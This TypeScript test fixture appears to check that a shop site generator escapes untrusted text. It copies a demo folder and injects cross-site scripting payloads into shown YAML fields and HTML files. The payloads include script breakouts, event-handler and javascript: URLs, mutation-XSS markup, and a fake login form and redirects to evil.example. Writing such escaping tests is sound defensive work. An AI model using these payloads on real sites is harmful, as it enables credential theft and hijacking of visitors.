import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse, stringify } from 'yaml';

/** Breaks out of a script, attribute, comment or JavaScript string, wherever it is put, and sets `window.hacked`. */
export const HOSTILE_TEXT = `</script><script>hacked=1</script><img src=x onerror=hacked=2>"'><!--\u2028\${hacked=3}`;

/** Does the same, short enough for every text with a maximum length. */
const HOSTILE_LABEL = `</script><img src=x onerror=hacked=3>"'<!--\u2028`;

const HOSTILE_HTML = `<script>hacked=4</script><img src="https://evil.example/pixel" onerror="hacked=5"><svg onload=hacked=6><p onclick="hacked=7"
style="background:url(https://evil.example/style)" id="root">Text</p><a href="javascript:hacked=8">Click</a><iframe srcdoc="<script>parent.hacked=9</script>"></iframe>
<form action="https://evil.example"><input name="token"><button>Log in</button></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/style.css"><object data="https://evil.example"></object><math><mtext><table><mglyph><style><img src=x onerror=hacked=10>`;

/** Keys whose texts are shown to people; elsewhere a strange value is a fault of the folder. */
const SHOWN = new Set([
  'name',
  'tagline',
  'hero_line',
  'description',
  'label',
  'title',
  'text',
  'venue',
  'address',
  'entrance',
  'gate_times',
  'bring',
  'out_of_stock',
  'under_construction_title',
  'vat_number',
  'registration_number',
  'sender_name',
]);
const TABLES_OF_TEXTS = new Set(['methods', 'product_types', 'merchandise_types', 'age_ranges', 'channels']);

/** Writes the demo shop with an attack in every text. `remove` deletes it. */
export async function givenHostileShopFolder(): Promise<{ folder: string; remove(): Promise<void> }> {
  const folder = await mkdtemp(path.join(os.tmpdir(), 'foyer-hostile-'));
  await cp(path.resolve('demo'), folder, { recursive: true });
  for (const name of await readdir(folder, { recursive: true })) {
    const file = path.join(folder, name);
    if (name.endsWith('.yaml')) await writeFile(file, stringify(spoiled(parse(await readFile(file, 'utf8')))));
    if (name.endsWith('.html')) await writeFile(file, (await readFile(file, 'utf8')) + HOSTILE_HTML);
  }
  return { folder, remove: () => rm(folder, { recursive: true, force: true }) };
}

function spoiled(value: unknown, key = '', above = ''): unknown {
  if (Array.isArray(value)) return value.map((one) => spoiled(one, key, above));
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([name, inside]) => [name, spoiled(inside, name, key)]));
  }
  if (typeof value !== 'string') return value;
  if (key === 'description' && value.startsWith('<')) return value + HOSTILE_HTML;
  if (SHOWN.has(key) || TABLES_OF_TEXTS.has(above)) return value.slice(0, 12) + HOSTILE_LABEL;
  return key === 'under_construction' ? value + HOSTILE_HTML : value;
}
